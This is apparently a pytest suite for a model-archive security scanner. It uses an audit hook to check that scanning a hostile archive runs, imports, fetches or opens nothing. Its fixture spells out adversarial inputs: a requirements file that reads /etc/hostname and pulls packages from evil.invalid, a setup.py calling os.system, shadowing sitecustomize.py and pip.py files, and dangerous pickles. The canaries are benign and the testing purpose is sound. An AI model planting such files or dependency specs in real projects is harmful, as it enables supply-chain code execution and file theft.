"""An audit hook watches a whole scan: nothing of an archive is executed, imported or fetched, whatever it holds."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from fixtures.churn import build, surroundings
from fixtures.serialization.malicious import DANGEROUS
from gate.advisories.sample import sample
from tests.conftest import ROOT, zipped

# Runs the command in this very process (--jobs 0) and writes down what the interpreter does (PEP 578).
WATCHED = """
import json, os, sys
seen = []
def hook(event, args):
    if event in ("subprocess.Popen", "os.exec", "os.posix_spawn", "os.system", "os.startfile"):
        seen.append([event, [str(a) for a in (args[1] if len(args) > 1 and isinstance(args[1], (list, tuple)) else args)]])
    elif event.startswith("socket.") and event != "socket.__new__":
        seen.append([event, str(args[1:])])
    elif event == "import":
        seen.append([event, args[0], str(args[1] or "")])
    elif event in ("pickle.find_class", "ctypes.dlopen"):
        seen.append([event, [str(a) for a in args]])
    elif event == "open" and isinstance(args[0], str):
        seen.append([event, args[0], args[2] if isinstance(args[2], int) else 0])
sys.addaudithook(hook)
from gate.cli import main
sys.argv = ["gate", *json.loads(sys.argv[1])]
try:
    main()
finally:
    sys.stdout.flush()
    with open(os.environ["SEEN"], "w") as file:
        json.dump(list(seen), file)
"""
HOST = "/etc/hostname"
EVIL = {
    "requirements.txt": f"-r {HOST}\n-r ../../..{HOST}\n-c https://evil.invalid/c.txt\n--index-url https://evil.invalid/\n"
    "-e git+https://evil.invalid/x.git#egg=x\n./setup_me\nhttps://evil.invalid/w.whl\npillow==9.0.0\n${HOME}\n".encode(),
    "setup_me/setup.py": b"import os; os.system('touch gate_canary')\n",
    "pip.py": b"open('gate_canary', 'w')\n",
    "pip/__main__.py": b"open('gate_canary', 'w')\n",
    "sitecustomize.py": b"open('gate_canary', 'w')\n",
    "lief.py": b"open('gate_canary', 'w')\n",
    "conda.yaml": b"dependencies: [python=3.11, {pip: [-r requirements.txt, '-r /etc/hostname']}]\n",
    "people.csv": b"name,email\n" + b"".join(b"A B,a.b%d@bank.example\n" % i for i in range(50)),
    "lib/x.so": b"\x7fELF\x02\x01\x01" + b"\0" * 200,
    "lib/y.dll": b"MZ" + b"\0" * 200,
    "model.sigstore.json": b'{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json"}',
    **{f"pickles/{i:03}.pkl": data for i, data in enumerate(DANGEROUS.values())},
}


@pytest.fixture(scope="module")
def bank(tmp_path_factory):
    folder = str(tmp_path_factory.mktemp("bank"))
    built = build.build(folder)
    supplies = surroundings.supply(folder, built)
    evil = Path(folder) / "evil"
    for name, data in EVIL.items():
        build.write(os.fspath(evil / name), data)
    (Path(folder) / "evil.zip").write_bytes(zipped(EVIL))
    given = ["--trust", supplies.trust, "--profile", supplies.profile, "--db", sample(folder)]
    return {"dirty": built.dirty_mar, "folder": built.dirty_mlflow, "evil": str(evil), "zip": f"{evil}.zip"}, given


def watch(target, given, tmp_path, cwd):
    """What the interpreter did while it scanned, from the first import on."""
    seen = tmp_path / "seen.json"
    home = tmp_path / "home"
    home.mkdir()
    own = {"HOME": str(home), "GATE_CACHE_DIR": ""}  # machine code of the policy is kept on purpose
    environment = {"PATH": os.environ["PATH"], "SEEN": str(seen), "PYTHONPATH": str(ROOT), **own}
    command = [sys.executable, "-P", "-c", WATCHED, json.dumps(["scan", target, *given, "--jobs", "0", "-f", "json"])]
    run = subprocess.run(command, capture_output=True, text=True, cwd=cwd, env=environment, timeout=120)
    assert run.returncode == 1 and run.stderr == "", run.stderr
    assert list(home.iterdir()) == []
    assert not (Path(cwd) / "gate_canary").exists()
    return json.loads(seen.read_text()), run.stdout


@pytest.mark.parametrize("name", ["dirty", "folder", "evil", "zip"])
def test_a_scan_starts_nothing_but_the_reader_of_libraries_and_asks_nobody(bank, name, tmp_path):
    targets, given = bank
    events, out = watch(targets[name], given, tmp_path, tmp_path)
    started = [
        event[1] for event in events if event[0] in ("subprocess.Popen", "os.exec", "os.posix_spawn", "os.system")
    ]
    assert all(any("lief_child" in word for word in words) for words in started), started
    asked = [event for event in events if event[0].startswith("socket.")]
    assert [
        event for event in asked if event[0] != "socket.bind" or "'::1', 0" not in event[1]
    ] == []  # urllib3's test for IPv6
    assert [event for event in events if event[0] == "pickle.find_class" and "gate" not in str(event)] == []
    assert "dependencies.vulnerable" in out


@pytest.mark.parametrize("name", ["evil", "zip"])
def test_no_file_is_opened_because_an_archive_names_it(bank, name, tmp_path):
    targets, given = bank
    events, _ = watch(targets[name], given, tmp_path, tmp_path)
    opened = {event[1] for event in events if event[0] == "open"}
    assert HOST not in {os.path.realpath(path) for path in opened}
    # An import reads its source or byte code by an absolute path; the walk opens members relative to a descriptor.
    inside = (targets[name] + os.sep, os.path.realpath(targets[name]) + os.sep)
    assert [path for path in opened if path.startswith(inside)] == []
    brought = {"setup_me", "sitecustomize"} & {event[1] for event in events if event[0] == "import"}
    assert brought == set()


@pytest.mark.parametrize("jobs", ["0", "1"])
def test_the_current_folder_is_no_source_of_code(gate, bank, jobs, tmp_path):
    """A user stands in the unpacked archive, which brings its own pip.py, lief.py and sitecustomize.py."""
    targets, given = bank
    command = [sys.executable, "-P", "-m", "gate", "scan", targets["dirty"], *given, "--jobs", jobs, "-f", "json"]
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    run = subprocess.run(command, capture_output=True, text=True, cwd=targets["evil"], env=environment, timeout=120)
    assert run.returncode == 1 and run.stderr == "", run.stderr
    assert not (Path(targets["evil"]) / "gate_canary").exists() and not (ROOT / "gate_canary").exists()
